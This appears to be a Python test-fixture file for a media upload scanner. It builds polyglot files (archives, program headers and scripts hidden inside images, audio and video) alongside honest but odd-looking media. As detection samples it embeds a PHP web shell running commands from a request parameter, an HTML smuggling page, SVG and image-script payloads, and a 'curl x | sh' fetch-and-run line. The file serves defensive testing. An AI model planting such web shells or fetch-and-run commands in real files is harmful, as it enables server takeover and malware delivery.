"""Files that are not what they seem, and honest ones that look odd. Every one is made here."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import numpy as np

from tests.support import container_factory, media_factory, metadata_files, sound_factory, video_factory
from tests.support.c2pa_signing import new_signer, sign
from tests.support.clamd import EICAR
from tests.support.container_factory import Movie, box, broadcast, chunk, movie, wave
from tests.support.sound_factory import clicks
from tests.support.video_factory import Recipe, steady

SAMPLES = Path(__file__).parents[2] / "samples"
Make = Callable[[], bytes]


def zipped(name: str = "payload.exe", body: bytes = b"MZ") -> bytes:
    """A ZIP archive of one file."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, body)
    return file.getvalue()


def zip_behind(front: bytes, *, decoy: bytes = b"") -> bytes:
    """A ZIP behind something else, told in a way that unpackers take: odd versions, and an end that is wrong about its length."""
    whole = bytearray(zipped())
    end = whole.rindex(b"PK\x05\x06")
    directory_bytes, directory_at = struct.unpack_from("<LL", whole, end + 12)
    struct.pack_into("<LL", whole, end + 12, directory_bytes + 1, directory_at + len(front) + len(decoy))
    for version in (whole.index(b"PK\x03\x04") + 4, whole.index(b"PK\x01\x02") + 6):
        whole[version] = 0x0B
    return front + decoy + whole


def tarred(name: str = "payload") -> bytes:
    """A tar archive of one file."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        archive.addfile(tarfile.TarInfo(name), io.BytesIO())
    return file.getvalue()


def disk_image(front: bytes = b"") -> bytes:
    """The beginning of an image of a disk (ISO 9660); its first 32 KiB may hold anything."""
    return front.ljust(32_768, b"\0") + b"\x01CD001\x01\0" + bytes(2_040)


RAR = b"Rar!\x1a\x07\x01\x00" + bytes(40)
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40)
PHP = b'<?php system($_GET["c"]); ?>'
SMUGGLING = b'<html><script>var b=new Blob([atob("TVqQ")]);location.href=URL.createObjectURL(b)</script></html>'


def windows_program() -> bytes:
    """The headers of a program for Windows."""
    return (
        b"MZ".ljust(0x3C, b"\0") + struct.pack("<I", 0x80) + bytes(64) + b"PE\0\0" + bytes(20) + b"\x0b\x02" + bytes(64)
    )


def linux_program() -> bytes:
    """The header of a program for Linux on x86-64."""
    return b"\x7fELF\x02\x01\x01\0" + bytes(8) + struct.pack("<HHI", 3, 62, 1) + bytes(40)


ARCHIVES: Mapping[str, Make] = {
    "zip": zipped,
    "docx": lambda: zipped("word/document.xml", b"<w:document/>"),
    "jar": lambda: zipped("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0"),
    "apk": lambda: zipped("AndroidManifest.xml", b"\x03\0\x08\0"),
    "rar": lambda: RAR,
    "7z": lambda: SEVEN_ZIP,
    "tar": tarred,
    "gz": lambda: gzip.compress(tarred()),
    "bz2": lambda: bz2.compress(tarred()),
    "xz": lambda: lzma.compress(tarred()),
    "iso": disk_image,
    "program": windows_program,
    "script": lambda: b"#!/bin/sh\necho\n",
    "page": lambda: SMUGGLING,
    "pdf": lambda: b"%PDF-1.7\n",
    "svg": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
}
"""What is no medium, by name."""


def gif_with_width(two_bytes: bytes) -> bytes:
    """A GIF whose width is these two bytes, and which ends as a script does."""
    whole = media_factory.encode(media_factory.picture(), "GIF")
    return whole[:6] + two_bytes + whole[8:] + b"*/=alert(1)"


def jpeg_as_script() -> bytes:
    """A JPEG whose first segment is 12,074 bytes long: `/*` to a browser that takes it for JavaScript."""
    whole = media_factory.jpeg()
    return b"\xff\xd8\xff\xe0/*" + b"JFIF\0".ljust(0x2F2A - 2, b" ") + whole[2:] + b"*/=alert(1)"


def wav_as_script() -> bytes:
    """A WAV whose length opens a comment."""
    whole = wave()
    return b"RIFF/*\0\0" + whole[8:] + b"*/=alert(1)"


def jpeg_as_tar() -> bytes:
    """A tar archive whose first file's name is the beginning of a JPEG."""
    return b"\xff\xd8\xff\xfe\x02\x00" + tarred()[6:] + media_factory.jpeg()[2:]


def tagged_mp3(body: bytes) -> bytes:
    """An MP3 with something in its ID3 tag."""
    sound = sound_factory.recording("mp3", clicks([0.1], 0.5))
    frame = b"PRIV" + struct.pack(">IH", len(body) + 2, 0) + b"x\0" + body
    length = bytes(len(frame) >> shift & 127 for shift in (21, 14, 7, 0))
    return b"ID3\x03\0\0" + length + frame + sound


AT_FIXED_PLACES: Mapping[str, Make] = {
    "jpeg and zip": media_factory.jpeg_and_zip,
    "zip behind a jpeg": lambda: media_factory.jpeg() + zipped(),
    "zip with a wrong length behind a jpeg": lambda: zip_behind(media_factory.jpeg()),
    "png and zip": lambda: media_factory.png() + zipped(),
    "mp4 and zip": lambda: video_factory.video(Recipe(steady(3, 25))) + zipped(),
    "mp3 and zip": lambda: sound_factory.recording("mp3", clicks([0.1], 0.5)) + zipped(),
    "jpeg and pdf": media_factory.jpeg_and_pdf,
    "jpeg and html": media_factory.jpeg_and_html,
    "jpeg and svg": lambda: media_factory.jpeg(comment=b"<svg onload=alert(1)>"),
    "gif and javascript": media_factory.gif_and_javascript,
    "gif and assignment": lambda: gif_with_width(b"=1"),
    "jpeg and javascript": jpeg_as_script,
    "wav and javascript": wav_as_script,
    "jpeg and tar": jpeg_as_tar,
    "jpeg and iso": lambda: disk_image(media_factory.jpeg()),
}
"""Media that are something else as well, where its readers look for it."""

ANYWHERE: Mapping[str, tuple[Make, str]] = {
    "eicar in a comment": (lambda: media_factory.jpeg(comment=b"x" * 5_000 + EICAR), "eicar_test_file"),
    "rar behind a jpeg": (lambda: media_factory.jpeg() + RAR + bytes(100_000), "rar_archive"),
    "7z behind a png": (lambda: media_factory.png() + SEVEN_ZIP, "seven_zip_archive"),
    "zip far from the end": (lambda: media_factory.jpeg() + zipped() + bytes(100_000), "zip_archive"),
    "zip of odd versions, far from the end": (
        lambda: zip_behind(media_factory.jpeg()) + bytes(100_000),
        "zip_archive",
    ),
    "zip behind what looks like the end of one": (
        lambda: zip_behind(media_factory.jpeg(), decoy=zipped()[45:]) + bytes(100_000),
        "zip_archive",
    ),
    "zip in a box of an mp4": (
        lambda: movie(Movie(after_brand=box("free", zipped()), behind=bytes(70_000))),
        "zip_archive",
    ),
    "php behind a wav": (lambda: wave() + PHP, "php_script"),
    "php in a chunk of a png": (lambda: metadata_files.png((b"tEXt", b"Comment\0" + b" " * 2_000 + PHP)), "php_script"),
    "short php behind a gif": (lambda: media_factory.animated("GIF") + b"<?=`$_GET[cmd]`?>", "php_script"),
    "page behind a jpeg": (lambda: media_factory.jpeg() + SMUGGLING, "script_of_a_page"),
    "svg behind a webp": (lambda: noise("WEBP") + ARCHIVES["svg"](), "script_of_a_page"),
    "shell script behind a flac": (
        lambda: sound_factory.recording("flac", clicks([0.1], 0.5)) + b"\n#!/bin/sh\ncurl x | sh\n",
        "script_of_a_shell",
    ),
    "program behind a photo": (lambda: media_factory.jpeg() + windows_program(), "windows_program"),
    "program in a wav": (lambda: wave(chunk(b"junk", linux_program())), "linux_program"),
    "program in an id3 tag": (lambda: tagged_mp3(windows_program()), "windows_program"),
    "archive in an id3 tag": (lambda: tagged_mp3(zipped() + bytes(70_000)), "zip_archive"),
}
"""Media with something in them that nobody looks for at one place, and the rule that knows it."""


def with_second_picture() -> bytes:
    """A JPEG that a phone wrote with a second one behind it (CIPA DC-007, multi-picture format)."""
    first, second = media_factory.jpeg(), media_factory.jpeg()
    index = b"MPF\0II*\0\x08\0\0\0" + bytes(80)
    return first[:2] + b"\xff\xe2" + struct.pack(">H", len(index) + 2) + index + first[2:] + second


def with_preview() -> bytes:
    """A JPEG with a JPEG in its EXIF."""
    return metadata_files.with_preview(metadata_files.blots(1), metadata_files.blots(1))


def motion_photo() -> bytes:
    """A JPEG with a whole MP4 behind it, as phones write them."""
    return media_factory.jpeg() + video_factory.video(Recipe(steady(20, 25), with_sound=True))


def signed_photo() -> bytes:
    """A photo with content credentials."""
    photo = (SAMPLES / "portrait.jpg").read_bytes()
    return sign(photo, new_signer(), "http://cv.iptc.org/newscodes/digitalsourcetype/digitalCapture")


HONEST: Mapping[str, Make] = {
    **{path.name: path.read_bytes for path in sorted(SAMPLES.iterdir()) if path.suffix != ".md"},
    **{
        kind: (lambda kind=kind: sound_factory.recording(kind, clicks([0.2], 1.0)))  # type: ignore[misc]
        for kind in sound_factory.CODECS
    },
    **{
        f"animated {kind.lower()}": (lambda kind=kind: media_factory.animated(kind))  # type: ignore[misc]
        for kind in ("GIF", "WEBP", "PNG")
    },
    **{
        f"noise as {kind.lower()}": (lambda kind=kind: noise(kind))  # type: ignore[misc]
        for kind in ("JPEG", "PNG", "WEBP", "TIFF", "BMP", "AVIF")
    },
    "motion photo": motion_photo,
    "second picture": with_second_picture,
    "preview": with_preview,
    "content credentials": signed_photo,
    "live photo's film": lambda: movie(Movie()),
    "broadcast wave": lambda: container_factory.wave(broadcast("ZOOM H5"), chunk(b"iXML", b"<BWFXML></BWFXML>")),
    "video": lambda: video_factory.video(Recipe(steady(40, 25), with_sound=True)),
    "webm": lambda: video_factory.video(Recipe(steady(20, 25), "libvpx-vp9", "webm")),
    "workflow in a png": lambda: metadata_files.png((b"tEXt", b'workflow\0{"nodes": [{"type": "KSampler"}]}')),
    "xmp of an editor": lambda: metadata_files.png(
        (b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<?xpacket begin=''?><x:xmpmeta/>")
    ),
    "wav with a wrong length": lambda: b"RIFF\xff\xff\xff\xff" + wave()[8:],
}
"""Media that look odd and are not."""


def noise(file_format: str) -> bytes:
    """A megabyte or so of what no compression makes smaller."""
    from PIL import Image

    pixels = np.random.default_rng(7).integers(0, 256, (600, 600, 3), dtype=np.uint8)
    return media_factory.encode(Image.fromarray(pixels), file_format)
